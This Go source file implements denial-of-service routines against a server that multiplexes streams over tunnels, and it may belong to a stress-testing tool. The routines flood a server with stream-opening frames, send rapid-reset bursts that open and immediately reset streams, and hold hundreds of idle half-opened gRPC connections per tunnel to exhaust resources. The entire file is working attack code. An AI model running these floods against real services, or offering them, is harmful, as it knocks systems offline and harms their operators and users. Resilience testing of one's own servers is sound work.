package main

import "context"

// streamFlood opens streams without end, on few tunnels.
func streamFlood(ctx context.Context, t *target) {
	t.keep(ctx, 4, cutPause, func(ctx context.Context, i int) {
		t.floodTunnel(ctx, i, hostile, i%2 == 0, "SYNs", opening(false))
	})
}

// rapidReset opens streams without end, and resets each at once.
func rapidReset(ctx context.Context, t *target) {
	t.keep(ctx, 4, cutPause, func(ctx context.Context, i int) {
		t.floodTunnel(ctx, i, hostile, i%2 == 0, "SYNs with RST", opening(true))
	})
}

// opening returns what makes batches of frames that open new streams.
func opening(reset bool) func() ([]byte, int) {
	var b []byte
	id := uint32(1)
	return func() ([]byte, int) {
		b = b[:0]
		n := 0
		for ; len(b) < batch-2*muxHeaderSize; n++ {
			b = appendMux(b, muxWindow, flagSYN, id, 0)
			if reset {
				b = appendMux(b, muxWindow, flagRST, id, 0)
			}
			id += 2
		}
		return binaryFrame(b), n
	}
}

const (
	idleTunnels      = 8
	streamsOfATunnel = 256
)

// idleStreams opens as many streams as there may be, on several tunnels, and a
// gRPC connection on each.
func idleStreams(ctx context.Context, t *target) {
	t.keep(ctx, t.scale(idleTunnels), cutPause, func(ctx context.Context, i int) {
		s, ok := t.open(ctx, i, hostile)
		if !ok {
			return
		}
		defer func() { _ = s.Close() }()
		over := s.drain()
		if _, err := s.Write(binaryFrame(idleConnections())); err != nil {
			return
		}
		t.add("gRPC connections", streamsOfATunnel)
		select {
		case <-over:
			t.dropped(ctx)
		case <-ctx.Done():
		}
	})
}

// idleConnections returns frames that open as many streams as a tunnel takes, with
// the beginning of a gRPC connection on each.
func idleConnections() (b []byte) {
	first := clientPreface()
	for n := range uint32(streamsOfATunnel) {
		b = appendMux(b, muxWindow, flagSYN, 2*n+1, 0)
		b = appendMux(b, muxData, 0, 2*n+1, uint32(len(first)))
		b = append(b, first...)
	}
	return b
}
